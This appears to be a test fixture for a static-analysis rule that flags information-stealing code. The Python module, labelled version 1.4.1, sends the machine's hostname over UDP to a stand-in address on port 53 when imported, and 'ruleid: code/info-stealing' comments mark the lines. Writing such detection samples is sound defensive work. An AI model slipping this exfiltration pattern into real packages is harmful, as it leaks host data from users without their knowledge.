import os
import socket

__version__ = '1.4.1'

_host = os.uname().nodename if os.uname().sysname == "Linux" else "?"
# ruleid: code/info-stealing
_s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
# ruleid: code/info-stealing
_s.sendto(_host.encode(), ("203.0.113.7", 53))
